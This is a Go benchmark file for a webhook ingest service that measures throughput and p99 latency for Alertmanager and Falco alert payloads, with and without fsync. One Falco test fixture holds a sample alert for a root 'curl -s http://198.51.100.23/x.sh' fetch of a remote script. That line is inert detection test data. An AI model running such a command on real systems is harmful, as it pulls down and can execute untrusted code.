package web_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/gin-gonic/gin"

	"github.com/firebreak/firebreak/playbooks"
	"github.com/firebreak/firebreak/store"
	"github.com/firebreak/firebreak/web"
	"github.com/firebreak/firebreak/web/sources"
)

type nopEngine struct{}

func (nopEngine) Notify()                   {}
func (nopEngine) Playbooks() *playbooks.Set { return nil }

// payload returns a one-alert Alertmanager body with a distinct
// fingerprint, so idempotency absorbs nothing.
func payload(i int64) []byte {
	return []byte(fmt.Sprintf(`{"version":"4","status":"firing","receiver":"fb","groupKey":"g","alerts":[{"status":"firing","labels":{"alertname":"KubePodCrashLooping","namespace":"shop","deployment":"cart-api","pod":"cart-api-7d9c-%d","severity":"critical"},"annotations":{"summary":"pod is crash looping","description":"Pod shop/cart-api is restarting 3 times / 5 minutes."},"startsAt":"%s","endsAt":"0001-01-01T00:00:00Z","generatorURL":"http://prometheus.example/graph?g0.expr=x","fingerprint":"%016x"}]}`,
		i, time.Now().UTC().Format(time.RFC3339Nano), i))
}

// groupPayload returns an Alertmanager body grouping ten alerts, as
// Alertmanager sends a storm (group_by alertname, namespace): ten events per
// request, each with a distinct fingerprint.
func groupPayload(i int64) []byte {
	at := time.Now().UTC().Format(time.RFC3339Nano)
	var alerts []string
	for k := range int64(10) {
		alerts = append(alerts, fmt.Sprintf(`{"status":"firing","labels":{"alertname":"KubePodCrashLooping","namespace":"shop","deployment":"cart-api","pod":"cart-api-7d9c-%d","severity":"critical"},"annotations":{"summary":"pod is crash looping","description":"Pod shop/cart-api is restarting 3 times / 5 minutes."},"startsAt":"%s","endsAt":"0001-01-01T00:00:00Z","generatorURL":"http://prometheus.example/graph?g0.expr=x","fingerprint":"%016x"}`, i*10+k, at, i*10+k))
	}
	return []byte(`{"version":"4","status":"firing","receiver":"fb","groupKey":"{}:{alertname=\"KubePodCrashLooping\", namespace=\"shop\"}","groupLabels":{"alertname":"KubePodCrashLooping","namespace":"shop"},"alerts":[` + strings.Join(alerts, ",") + `]}`)
}

// falcoPayload returns a falcosidekick body with a distinct uuid.
func falcoPayload(i int64) []byte {
	return []byte(fmt.Sprintf(`{"uuid":"3f1c6b0e-8a2d-4b7e-9c1a-%012d","output":"Notice Unexpected outbound connection (command=curl -s http://198.51.100.23/x.sh user=root k8s_ns=shop k8s_pod=cart-api-6d8f9c7b5-x2lkq)","priority":"Notice","rule":"Unexpected outbound connection destination","time":"%s","output_fields":{"container.id":"4b9e1d2c7a3f","evt.type":"connect","fd.cip":"10.42.3.17","fd.cport":48122,"fd.sip":"198.51.100.23","fd.sport":80,"k8s.ns.name":"shop","k8s.pod.name":"cart-api-6d8f9c7b5-x2lkq","proc.cmdline":"curl -s http://198.51.100.23/x.sh","proc.name":"curl","user.name":"root","user.uid":0},"source":"syscall","tags":["container","network"],"hostname":"worker-07"}`,
		i, time.Now().UTC().Format(time.RFC3339Nano)))
}

// load posts b.N bodies from the given number of concurrent clients and
// reports events/s and the 99th percentile acknowledgement latency.
func load(b *testing.B, url string, clients, perRequest int, body func(int64) []byte) {
	var n atomic.Int64
	client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: clients, MaxConnsPerHost: clients}}
	b.SetParallelism(max(1, clients/runtime.GOMAXPROCS(0)))
	var mu sync.Mutex
	var lat []time.Duration
	cpu0 := cpuTime()
	b.ResetTimer()
	start := time.Now()
	b.RunParallel(func(pb *testing.PB) {
		var mine []time.Duration
		defer func() {
			mu.Lock()
			lat = append(lat, mine...)
			mu.Unlock()
		}()
		for pb.Next() {
			t0 := time.Now()
			resp, err := client.Post(url, "application/json", bytes.NewReader(body(n.Add(1))))
			if err != nil {
				b.Error(err)
				return
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			mine = append(mine, time.Since(t0))
			if resp.StatusCode != http.StatusAccepted {
				b.Errorf("status %d", resp.StatusCode)
				return
			}
		}
	})
	events := float64(b.N * perRequest)
	b.ReportMetric(events/time.Since(start).Seconds(), "events/s")
	b.ReportMetric(float64((cpuTime()-cpu0).Microseconds())/events, "cpu-µs/event")
	if len(lat) > 0 {
		slices.Sort(lat)
		b.ReportMetric(float64(lat[len(lat)*99/100].Microseconds())/1000, "p99-ms")
	}
}

// BenchmarkIngest compares the durable ingest path (decode, fsync'd group
// commit to the bbolt inbox, 202) with a bare gin handler that only decodes
// the same JSON, both over loopback HTTP, for Alertmanager and Falco
// payloads at 16 and 64 concurrent senders.
func BenchmarkIngest(b *testing.B) {
	for _, src := range []struct {
		name, hook string
		perRequest int
		body       func(int64) []byte
		dec        sources.Decoder
	}{
		{"alertmanager", "alertmanager", 1, payload, sources.Alertmanager{}},
		{"alertmanager-group10", "alertmanager", 10, groupPayload, sources.Alertmanager{}},
		{"falco", "falco", 1, falcoPayload, sources.Falco{}},
	} {
		for _, clients := range []int{16, 64} {
			b.Run(fmt.Sprintf("%s/c%d/bare-gin-decode", src.name, clients), func(b *testing.B) {
				benchBare(b, src.hook, clients, src.perRequest, src.body)
			})
			b.Run(fmt.Sprintf("%s/c%d/durable-inbox", src.name, clients), func(b *testing.B) {
				benchDurable(b, src.hook, clients, src.perRequest, src.body, src.dec, false)
			})
			// The same path with fsync off: not durable, so not a product
			// figure, but it splits the gap to the bare handler into CPU
			// (this row) and waiting for the flush (the row above).
			b.Run(fmt.Sprintf("%s/c%d/inbox-nosync", src.name, clients), func(b *testing.B) {
				benchDurable(b, src.hook, clients, src.perRequest, src.body, src.dec, true)
			})
		}
	}
}

// benchBare serves a gin handler that only decodes the body into a generic
// JSON value, the least any receiver must do.
func benchBare(b *testing.B, name string, clients, perRequest int, body func(int64) []byte) {
	gin.SetMode(gin.ReleaseMode)
	r := gin.New()
	r.POST("/hooks/"+name, func(c *gin.Context) {
		var m map[string]any
		if err := json.NewDecoder(c.Request.Body).Decode(&m); err != nil {
			c.AbortWithStatus(http.StatusBadRequest)
			return
		}
		c.JSON(http.StatusAccepted, gin.H{"accepted": 1, "duplicates": 0})
	})
	srv := httptest.NewServer(r)
	defer srv.Close()
	load(b, srv.URL+"/hooks/"+name, clients, perRequest, body)
}

func benchDurable(b *testing.B, name string, clients, perRequest int, body func(int64) []byte, dec sources.Decoder, noSync bool) {
	db, err := store.Open(filepath.Join(b.TempDir(), "firebreak.db"), store.Options{NoSync: noSync})
	if err != nil {
		b.Fatal(err)
	}
	defer db.Close()
	s := web.New(web.Config{Inbox: db, Audit: db, Engine: nopEngine{}, Sources: map[string]web.Source{name: {Decoder: dec}}})
	srv := httptest.NewServer(s)
	defer srv.Close()
	load(b, srv.URL+"/hooks/"+name, clients, perRequest, body)
	commits, fns := db.CommitStats()
	if commits > 0 {
		b.ReportMetric(float64(fns)/float64(commits), "requests/commit")
	}
}

// cpuTime is the process's user and system CPU time. The load generator and
// the server share it, as they share the machine, so cpu-µs/event compares
// handlers only next to the bare handler's figure from the same run.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	_ = syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
